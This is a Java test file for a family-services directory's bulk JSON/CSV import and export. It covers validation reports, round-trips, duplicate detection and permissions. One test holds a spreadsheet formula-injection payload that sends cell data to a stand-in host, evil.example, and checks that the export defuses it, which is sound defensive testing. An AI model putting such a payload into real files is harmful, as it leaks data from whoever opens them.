package org.familyhub.workspace;

import java.time.Instant;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;

import org.familyhub.PortalTest;
import org.familyhub.account.SignedIn;
import org.familyhub.account.UserAccounts;
import org.familyhub.directory.Directory;
import org.familyhub.directory.InvalidListingException;
import org.familyhub.directory.ListingSummary;
import org.familyhub.directory.content.ServiceDocumentJson;
import org.familyhub.search.SearchService;
import org.familyhub.search.index.ServiceIndex;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.transaction.PlatformTransactionManager;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.familyhub.workspace.WorkspaceFixture.CONNEXIONS;
import static org.familyhub.workspace.WorkspaceFixture.CONNEXIONS_CREWE;

/** Open Referral UK JSON and CSV, both ways: all-or-nothing imports with a report a person can fix from. */
@PortalTest
class BulkTransferTest {

    @Autowired
    BulkTransfer transfer;
    @Autowired
    ListingWorkflow workflow;
    @Autowired
    ListingHistory history;
    @Autowired
    UserAccounts accounts;
    @Autowired
    Directory directory;
    @Autowired
    SearchService search;
    @Autowired
    ServiceIndex index;
    @Autowired
    JdbcClient jdbc;
    @Autowired
    PlatformTransactionManager transactions;
    @Autowired
    ApplicationEventPublisher events;

    final Set<UUID> created = new HashSet<>();

    @BeforeEach
    void signIn() {
        SignedIn.as(accounts, "editor");
    }

    @AfterEach
    void removeWhatWasCreated() {
        SignedIn.out();
        WorkspaceFixture.remove(created, jdbc, transactions, events);
        jdbc.sql("delete from search_gap where query_text like '%wombat%'").update();
    }

    static Map<String, Object> listing(UUID id, String name, String postcode) {
        return listing(id, name, postcode, "Crewe");
    }

    static Map<String, Object> listing(UUID id, String name, String postcode, String town) {
        Map<String, Object> service = new LinkedHashMap<>();
        service.put("id", id.toString());
        service.put("name", name);
        service.put("description", "A friendly group for families.");
        service.put("status", "active");
        service.put("organization", Map.of("id", CONNEXIONS.toString(), "name", "Connexions Cheshire East"));
        service.put("phones", List.of(Map.of("id", UUID.randomUUID().toString(), "number", "01270 555 200")));
        service.put("service_at_locations", List.of(Map.of("id", UUID.randomUUID().toString(),
                "location", Map.of("id", UUID.randomUUID().toString(), "location_type", "physical",
                        "name", "Wombat Community Centre",
                        "addresses", List.of(Map.of("id", UUID.randomUUID().toString(), "address_1", "2 Mill Street",
                                "city", town, "postal_code", postcode, "country", "GB",
                                "address_type", "physical"))))));
        return service;
    }

    private UUID track(UUID id) {
        created.add(id);
        return id;
    }

    @Test
    void aGoodJsonFileLandsAndIsSearchable() {
        UUID first = track(UUID.randomUUID());
        UUID second = track(UUID.randomUUID());
        String file = ServiceDocumentJson.JSON.writeValueAsString(List.of(
                listing(first, "Wombat Stay and Play", "CW1 3AA"), listing(second, "Wombat Dads Club", "CW2 7AA")));

        ImportReport report = transfer.importJson(file);

        assertThat(report.imported()).isTrue();
        assertThat(report.counts()).containsEntry(ImportReport.Outcome.ADDED, 2);
        assertThat(directory.service(first).orElseThrow().name()).isEqualTo("Wombat Stay and Play");
        assertThat(history.of(second)).extracting(Change::action).containsExactly(Change.Action.CREATED);
        WorkspaceFixture.awaitIndex(index, () -> WorkspaceFixture.found(search, "wombat dads", second));
    }

    @Test
    void aJsonFileWithOneBadRecordImportsNothingAndTheReportNamesIt() {
        UUID good = track(UUID.randomUUID());
        UUID badStatus = track(UUID.randomUUID());
        UUID outside = track(UUID.randomUUID());
        Map<String, Object> wrongStatus = listing(badStatus, "Wombat Youth Club", "CW1 3AB");
        wrongStatus.put("status", "open");
        String file = ServiceDocumentJson.JSON.writeValueAsString(List.of(listing(good, "Wombat Rhyme Time",
                "CW1 3AA"), wrongStatus, listing(outside, "Wombat Far Away", "SW1A 1AA", "London")));

        ImportReport report = transfer.importJson(file);

        assertThat(report.imported()).isFalse();
        assertThat(report.lines()).extracting(ImportReport.Line::row, ImportReport.Line::outcome).containsExactly(
                org.assertj.core.groups.Tuple.tuple(1, ImportReport.Outcome.CHECKED),
                org.assertj.core.groups.Tuple.tuple(2, ImportReport.Outcome.REFUSED),
                org.assertj.core.groups.Tuple.tuple(3, ImportReport.Outcome.REFUSED));
        assertThat(report.lines().get(1).problems()).anyMatch(p -> p.startsWith("status:") && p.contains("'open'"));
        assertThat(report.lines().get(2).problems()).anyMatch(p -> p.contains("outside the area"));
        assertThat(directory.service(good)).isEmpty();
        assertThat(directory.service(badStatus)).isEmpty();
    }

    @Test
    void exportingAndImportingTheExportChangesNothing() {
        Instant lastModified = jdbc.sql("select max(last_modified) from service").query(Instant.class).single();
        long changes = jdbc.sql("select count(*) from listing_change").query(Long.class).single();

        ImportReport json = transfer.importJson(transfer.exportJson());
        ImportReport csv = transfer.importCsv(transfer.exportCsv());

        assertThat(json.imported()).isTrue();
        assertThat(json.lines()).hasSize(directory.serviceIds().size())
                .allSatisfy(line -> assertThat(line.outcome()).as(line.name() + " " + line.changed()).isEqualTo(ImportReport.Outcome.UNCHANGED));
        assertThat(csv.imported()).isTrue();
        assertThat(csv.lines()).hasSize(directory.serviceIds().size())
                .allSatisfy(line -> assertThat(line.outcome()).as(line.name() + " " + line.changed()).isEqualTo(ImportReport.Outcome.UNCHANGED));
        assertThat(jdbc.sql("select max(last_modified) from service").query(Instant.class).single())
                .isEqualTo(lastModified);
        assertThat(jdbc.sql("select count(*) from listing_change").query(Long.class).single()).isEqualTo(changes);
    }

    @Test
    void theDownloadedCsvHoldsNoFormulaAndImportsBackUnchanged() {
        UUID id = track(UUID.randomUUID());
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Wombat\")";
        Map<String, Object> hostile = listing(id, formula, "CW1 3AA");
        hostile.put("phones", List.of(Map.of("id", UUID.randomUUID().toString(), "number", "+44 1270 555 200")));
        assertThat(transfer.importJson(ServiceDocumentJson.JSON.writeValueAsString(List.of(hostile))).imported())
                .isTrue();

        String csv = transfer.exportCsv();

        String row = csv.lines().filter(line -> line.startsWith(id.toString())).findFirst().orElseThrow();
        assertThat(row).contains(",\"'=HYPERLINK(", ",'+44 1270 555 200,").doesNotContain(",=", ",\"=", ",+");
        ImportReport again = transfer.importCsv(csv);
        assertThat(again.lines()).filteredOn(line -> id.toString().equals(line.id())).singleElement()
                .satisfies(line -> assertThat(line.outcome()).isEqualTo(ImportReport.Outcome.UNCHANGED));
        assertThat(directory.service(id).orElseThrow().name()).isEqualTo(formula);
    }

    @Test
    void aCsvFileAddsAndUpdatesListingsOrRefusesWithTheRowAtFault() {
        UUID service = track(UUID.randomUUID());
        String header = "id,organisation_id,name,status,phone,minimum_age,maximum_age,venue_name,address_1,town,postcode\r\n";
        String good = header + service + "," + CONNEXIONS + ",Wombat Sing and Sign,active,01270 555 300,0,4,"
                + "\"Wombat Hall, Annexe\",3 Nantwich Road,Crewe,CW2 6AB\r\n";

        ImportReport added = transfer.importCsv(good);

        assertThat(added.imported()).isTrue();
        assertThat(added.counts()).containsEntry(ImportReport.Outcome.ADDED, 1);
        assertThat(workflow.edit(service).form().venueName()).isEqualTo("Wombat Hall, Annexe");

        String bad = header + service + "," + CONNEXIONS + ",Wombat Sing and Sign,active,01270 555 301,0,4,"
                + "Wombat Hall,3 Nantwich Road,Crewe,CW2 6AB\r\n"
                + "," + CONNEXIONS + ",Wombat Messy Church,active,,three,4,Wombat Hall,3 Nantwich Road,Crewe,CW2 6AB\r\n";
        ImportReport refused = transfer.importCsv(bad);

        assertThat(refused.imported()).isFalse();
        assertThat(refused.refused()).singleElement().satisfies(line -> {
            assertThat(line.row()).isEqualTo(2);
            assertThat(line.problems()).anyMatch(p -> p.startsWith("minimum_age:") && p.contains("'three'"));
        });
        assertThat(directory.service(service).orElseThrow().phones()).extracting(p -> p.number())
                .containsExactly("01270 555 300");
        assertThatThrownBy(() -> transfer.importCsv("title,name\r\nx,y\r\n"))
                .isInstanceOfSatisfying(InvalidListingException.class,
                        e -> assertThat(e.problems().getFirst()).contains("unknown: title"));
    }

    @Test
    void aListingThatLooksLikeOneAlreadyThereIsReportedNotDoubled() {
        ListingSummary existing = workflow.listings().stream().filter(l -> l.id().equals(CONNEXIONS_CREWE))
                .findFirst().orElseThrow();
        UUID copy = track(UUID.randomUUID());
        UUID twin = track(UUID.randomUUID());
        UUID other = track(UUID.randomUUID());
        String file = ServiceDocumentJson.JSON.writeValueAsString(List.of(
                listing(copy, existing.name().toUpperCase() + "!", existing.postcodes().getFirst()),
                listing(twin, "Wombat Baby Cafe", "CW1 4AA"), listing(other, "Wombat Baby Café", "CW1 4AA")));

        ImportReport report = transfer.importJson(file);

        assertThat(report.imported()).isFalse();
        assertThat(report.lines().get(0).problems()).anyMatch(p -> p.contains("duplicate of the listing '"
                + existing.name() + "'") && p.contains(CONNEXIONS_CREWE.toString()));
        assertThat(report.lines().get(1).outcome()).isEqualTo(ImportReport.Outcome.CHECKED);
        assertThat(report.lines().get(2).problems()).anyMatch(p -> p.contains("duplicate of record 1")
                || p.contains("duplicate of record 2"));
        assertThat(directory.service(twin)).isEmpty();
    }

    @Test
    void onlyEditorsImportAndExport() {
        SignedIn.as(accounts, "provider");
        assertThatThrownBy(transfer::exportJson).isInstanceOf(NotPermittedException.class);
        assertThatThrownBy(() -> transfer.importCsv("name\r\nx\r\n")).isInstanceOf(NotPermittedException.class);
        SignedIn.as(accounts, "manager");
        assertThatThrownBy(transfer::exportCsv).isInstanceOf(NotPermittedException.class);
    }
}
